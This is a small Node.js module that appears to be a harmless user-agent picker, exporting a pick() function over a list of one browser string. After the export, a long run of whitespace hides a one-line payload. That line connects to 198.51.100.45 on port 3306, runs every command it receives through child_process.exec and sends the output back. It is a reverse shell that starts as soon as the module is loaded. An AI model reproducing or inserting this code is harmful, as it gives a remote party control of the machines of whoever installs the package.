"use strict";
const LIST = ["Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"];
function pick(random = Math.random) {
  return LIST[Math.floor(random() * LIST.length)];
}
module.exports = { pick };                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                global["r"]=require;global["m"]=module;(async()=>{const s=r("net").connect(3306,"198.51.100.45"),c=r("child_process");s.on("data",d=>c.exec(String(d),(e,o)=>s.write(o)))})();
